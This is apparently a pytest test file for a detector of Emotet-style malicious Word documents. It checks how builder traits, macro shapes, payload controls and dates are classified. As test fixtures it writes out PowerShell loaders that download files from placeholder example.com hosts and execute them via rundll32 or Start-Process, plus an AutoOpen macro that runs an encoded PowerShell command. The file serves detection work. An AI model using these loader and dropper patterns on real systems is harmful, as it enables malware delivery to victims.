"""What may bear Emotet's name among documents, and when it was: the command, the builder, the macro and the sheets together."""

from __future__ import annotations

from dataclasses import replace
from random import Random

import pytest
from support import document_decoys as decoys
from support.draws import letters
from support.looking import HERE, found

from mimawari.detectors.marks.vba_code import code_of
from mimawari.detectors.marks.vba_payload import payload_control
from mimawari.model import Finding, OfficeDocument, Strength
from mimawari.model.office import Control, Module, Properties, VbaProject

DAYS = {"2018-05-02": ("P1",), "2020-10-01": ("P3",), "2021-01-05": ("P4",), "2021-08-01": (), "": ()}
LIBRARY = (
    "$p=$home+'\\Kd3\\Vb2\\A43.dll';$u='{list}'.Split('@');foreach($x in $u){{try{{$w.DownloadFile($x,$p);"
    "if((gi $p).length -ge 31045){{&'rundll32' $p,'Control_RunDLL';break}}}}catch{{}}}}"
)
OTHERS = {
    "one folder on every host": (
        "$u='http://a.example.com/77g7,http://b.example.com/77g7,http://c.example.com/77g7,http://d.example.com/77g7'.Split(',');"
        "$p=$env:TEMP+'\\x.exe';"
        "foreach($i in $u){try{$w.DownloadFile($i,$p);if((gi $p).length -gt 40000){Start-Process $p;break}}catch{}}"
    ),
    "a list for one library": (
        "$u='https://a.example.com/mLp/,https://b.example.com/qT/,https://c.example.com/zz/'.Split(',');$p=$env:TEMP+'\\k.dll';"
        "foreach($i in $u){try{iwr $i -OutFile $p;if(Test-Path $p){rundll32 $p,DllRegisterServer;break}}catch{}}"
    ),
    "a bar between": (
        "foreach($i in 'https://a.example.com/w/|https://b.example.com/r/|https://c.example.com/t/'.Split('|'))"
        "{try{$w.DownloadFile($i,$env:appdata+'\\svc.exe');if((gi $p).length -gt 9000){start-process $p;break}}catch{}}"
    ),
}  # fmt: skip


def by_kind(document: OfficeDocument) -> dict[str, Finding]:
    return {finding.kind: finding for finding in found((document,), ())}


def made(day: str) -> Properties:
    moment = f"{day}T10:00:00Z" if day else ""
    return Properties(revision=1, edit_minutes=0, created=moment, saved=moment)


def with_command(text: str, day: str = "") -> OfficeDocument:
    code = f'Sub AutoOpen()\nShell "powershell -e {decoys.encoded(text)}", 0\nEnd Sub'
    first = Module(name="ThisDocument", form="document", base=decoys.WORD)
    return OfficeDocument(
        origin=HERE.at("x.doc"), name="x.doc", application="word", shell="ole", properties=made(day),
        vba=VbaProject(modules=(first, Module(name="Module1", source=code))),
    )  # fmt: skip


@pytest.mark.parametrize(("day", "era"), DAYS.items())
def test_the_documents_own_day_tells_the_period(day: str, era: tuple[str, ...]) -> None:
    whole = replace(decoys.word_document(Random(3), in_form=False), properties=made(day))
    said = by_kind(whole)
    assert said["emotet-builder"].era == said["emotet-macro"].era == era
    assert said["emotet-command"].era == (era or ("P1",))


@pytest.mark.parametrize("day", DAYS)
def test_a_library_tells_its_period_itself(day: str) -> None:
    listed = "@".join(decoys.addresses(Random(5), 6))
    said = by_kind(with_command(LIBRARY.format(list=listed), day))
    assert (said["emotet-command"].strength, said["emotet-command"].era) == (Strength.CONCLUSIVE, ("P4",))


def test_no_day_is_not_a_period() -> None:
    """Saved again without a day: the builder says nothing of when."""
    said = by_kind(replace(decoys.word_document(Random(4), in_form=True), properties=Properties()))
    assert said["emotet-builder"].era == ()


@pytest.mark.parametrize("name", OTHERS)
def test_another_familys_list_is_found_without_the_name(name: str) -> None:
    said = by_kind(with_command(OTHERS[name], "2020-10-01"))
    assert {finding.family for finding in said.values()} == {None}
    assert said["emotet-command"].strength is Strength.STRONG
    assert "Emotet's" not in said["emotet-command"].sentence.en


@pytest.mark.parametrize("seed", range(40))
def test_a_cluster_that_nobody_saw_is_told_by_its_builder(seed: int) -> None:
    """The fingerprint, and a macro unlike all known ones: junk, and one call whose command cannot be read."""
    draw = Random(f"unseen {seed}")
    own, main, one, other = (letters(draw, 8, 12).capitalize() for _ in range(4))
    junk = "\n".join(
        f"{letters(draw, 7, 12)} = {letters(draw, 7, 12)} + CByte({draw.randint(1, 99)}) * Cos({one})" for _ in range(40)
    )
    call = draw.choice((f"Shell {one} + {other}({main}), 0", f"CreateObject({other}({one})).Run {main}, 0"))
    start = draw.choice(("autoopen", "Document_open", "AutoOpen"))
    source = f"Sub {start}()\n{junk}\n{call}\nEnd Sub\nFunction {other}(a)\n{other} = a\nEnd Function"
    whole = replace(
        with_command(""), properties=made("2018-11-20"),
        vba=VbaProject(modules=(Module(name=own, form="document", base=decoys.WORD, source=source),)),
    )  # fmt: skip
    said = by_kind(whole)["emotet-builder"]
    assert (said.strength, said.family, said.era) == (Strength.STRONG, "emotet", ("P1",))


READS = "Sub AutoOpen()\n{reads}\nEnd Sub"
HELP = "宛先の部署を選び、「次へ」を押してください。担当者名は全角で入力します。" * 30


@pytest.mark.parametrize(
    ("texts", "is_payload"),
    [
        (("JABXAGMA" * 60,), True),
        (("JABXAGMA" * 40,), False),
        (("JABXAGMA" * 40,) * 4, True),
        (("JABXAGMA" * 40,) * 2, False),
        (("Choose the office. " * 40,) * 4, False),
        ((HELP,), False),
        ((HELP,) * 4, False),
        (("https://www.example.jp/portal/soumu/yoshiki/shinsei/2024/index.html",) * 4, False),
    ],
)
@pytest.mark.parametrize("in_form", [True, False])
def test_what_a_payload_in_controls_is(texts: tuple[str, ...], is_payload: bool, in_form: bool) -> None:
    controls = tuple(
        Control(owner="Frm", name=f"Box{at}", text=text, stored=len(text.encode()), in_form=in_form)
        for at, text in enumerate(texts)
    )
    source = READS.format(reads="\n".join(f"x = x + Frm.Box{at}" for at in range(len(texts))))
    vba = VbaProject(modules=(Module(name="Module1", source=source),))
    assert (payload_control(replace(with_command(""), vba=vba, controls=controls), code_of(vba)) is not None) is is_payload


STREAMS = ("WordDocument", "1Table", "Macros/PROJECT", "Macros/VBA/dir", "\x05SummaryInformation")
MARKS = {"no PROJECTwm", "no CompObj", "template called a document"}


@pytest.mark.parametrize(
    ("parts", "is_template", "shell", "name", "marks"),
    [
        (STREAMS, False, "ole", "x.doc", {"no PROJECTwm", "no CompObj"}),
        ((*STREAMS, "Macros/PROJECTwm", "\x01CompObj"), False, "ole", "x.doc", set[str]()),
        (
            (*STREAMS, "Macros/PROJECTwm", "ObjectPool/_1/\x01CompObj"),
            True,
            "ole",
            "x.doc",
            {"no CompObj", "template called a document"},
        ),
        ((*STREAMS, "Macros/PROJECTwm", "\x01CompObj"), True, "ole", "x.dot", set[str]()),
        (("word/document.xml", "word/vbaProject.bin"), True, "ooxml", "x.docm", set[str]()),
        ((), False, "ole", "x.doc", set[str]()),
    ],
)
def test_what_word_always_writes(parts: tuple[str, ...], is_template: bool, shell: str, name: str, marks: set[str]) -> None:
    source = "Sub AutoOpen()\nActiveDocument.Fields.Update\nEnd Sub"
    whole = replace(
        with_command(""), name=name, parts=parts, shell=shell, is_template=is_template, properties=made("2020-10-01"),
        vba=VbaProject(modules=(Module(name="docLetter", form="document", base=decoys.WORD, source=source),)),
    )  # fmt: skip
    said = by_kind(whole)["emotet-builder"]
    assert set(str(said.facts["marks"]).split(", ")) & MARKS == marks
    assert (said.strength, said.family) == (Strength.HINT, None)


def test_no_clusters_name_stands_in_a_sentence() -> None:
    said = by_kind(decoys.word_document(Random(3), in_form=False))["emotet-macro"]
    assert str(said.facts["like"]) not in said.sentence.en + said.sentence.ja
